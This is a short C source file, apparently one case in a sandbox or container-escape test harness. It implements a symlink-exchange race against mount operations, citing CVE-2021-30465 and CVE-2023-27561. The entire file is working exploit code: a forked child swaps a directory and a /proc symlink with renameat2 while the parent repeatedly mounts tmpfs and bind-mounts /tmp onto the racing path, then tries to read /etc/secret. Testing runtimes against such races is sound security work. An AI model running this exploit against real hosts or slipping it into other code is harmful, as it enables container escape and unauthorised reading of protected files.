/* Exchanges links for directories below /tmp while it mounts over them, so that a mount may land elsewhere (CVE-2021-30465, CVE-2023-27561). */
#include "common/attack.h"

static void attempt(void) {
    char one[128], other[128];
    snprintf(one, sizeof one, "%s", own("one"));
    snprintf(other, sizeof other, "%s", own("other"));
    mkdir(one, 0777);
    TRY(symlink("/../../../../proc", other));
    pid_t flipper = fork();
    if (flipper == 0) {
        alarm(20);
        for (;;) {
            renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
        }
    }
    int landed = 0;
    for (int n = 0; n < 300; n++) {
        landed += mount("tmpfs", one, "tmpfs", 0, "size=4k") == 0;
        landed += mount("/tmp", one, NULL, MS_BIND | MS_REC, NULL) == 0;
        umount2(one, MNT_DETACH);
    }
    kill(flipper, SIGKILL);
    waitpid(flipper, NULL, 0);
    printf("%d mounts\n", landed);
    show("/etc/secret");
}
